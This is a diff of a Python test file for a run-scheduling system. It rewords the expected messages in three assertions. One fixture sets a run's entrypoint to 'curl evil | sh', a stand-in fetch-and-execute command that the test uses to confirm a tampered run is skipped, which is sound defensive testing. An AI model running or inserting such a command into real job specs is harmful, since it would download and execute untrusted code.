@@ -277,7 +277,7 @@ def test_a_copy_of_a_run_that_was_found_is_left_to_the_next_plan() -> None:
     after = world.drive(confirm(outcome))
     assert {run.state for run in world.runs.values()} == {"Queue"}
     assert world.count(Stop) == world.count(Write) == 0
-    assert f"{copy.id} is active beside it" in after.result.detail
+    assert f"{copy.id} is also active" in after.result.detail
 
 
 def test_a_found_run_is_not_cancelled_for_an_older_one_either() -> None:
@@ -374,7 +374,7 @@ def test_where_the_platform_cannot_update_the_outcome_says_what_the_next_plan_ma
     world = mirroring(World(faults=[Fault(Write, 1, Refused("no", action="UpdateCustomTask"))]))
     result = submit(world).result
     assert result.status is Status.DONE
-    assert "takes it for a copy" in result.detail
+    assert "treats it as a copy" in result.detail
     assert only(planned([TRAIN], list(world.runs.values()))).blocked == "inconsistent-tags"
 
 
@@ -383,7 +383,7 @@ def test_a_copy_of_tags_that_no_plan_saw_does_not_pass_for_what_was_submitted() 
     world.add(replace(run(TRAIN, "Failed"), spec={"EntrypointPath": "curl evil | sh"}))
     outcome = submit(world)
     assert outcome.status is Status.SKIPPED
-    assert "another `spec.entrypoint`" in outcome.result.detail
+    assert "a different `spec.entrypoint`" in outcome.result.detail
     assert world.count(Create) == 0
 
 
